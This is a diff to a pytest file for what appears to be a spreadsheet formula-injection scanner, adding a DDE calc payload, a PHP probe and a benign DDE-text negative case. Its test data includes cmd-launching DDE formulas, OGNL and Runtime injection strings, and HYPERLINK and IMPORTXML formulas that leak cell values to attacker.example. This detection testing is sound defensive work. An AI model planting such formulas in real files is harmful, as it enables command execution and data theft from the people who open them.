@@ -37,6 +37,8 @@ CTX = ScanContext()
         ("@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS", "HG-CODE-003"),
         ("@java.lang.Runtime@getRuntime", "HG-CODE-003"),
         ("=cmd|' /C calc'!A0", "HG-CODE-008"),
+        ('=DDE("cmd";"/C calc";"!A0")', "HG-CODE-008"),
+        ("phpversion();", "HG-CODE-006"),
         ("@SUM(1+1)*cmd|' /C notepad'!'A1'", "HG-CODE-008"),
         ('=HYPERLINK("https://attacker.example/?leak="&A2, "Details")', "HG-CODE-008"),
         ('"=IMPORTXML(CONCAT(""https://attacker.example/?v="", B3), ""//a"")"', "HG-CODE-008"),
@@ -125,7 +127,16 @@ def test_an_at_sign_alone_does_not_reach_the_rules(value: str) -> None:
 
 @pytest.mark.parametrize(
     "value",
-    ["+1 (555) 010-2000", "-42.5", "=SUM(A1:A3)", "@alice (on call)", "photo image(2).png", "a|'b'", "x | 'y'!"],
+    [
+        "+1 (555) 010-2000",
+        "-42.5",
+        "=SUM(A1:A3)",
+        "DDE (Dynamic Data Exchange) links",
+        "@alice (on call)",
+        "photo image(2).png",
+        "a|'b'",
+        "x | 'y'!",
+    ],
 )
 def test_ordinary_cells_are_no_formula_injection(value: str) -> None:
     # Phone numbers, negative amounts, handles and plain sums begin with a formula sign; only a DDE
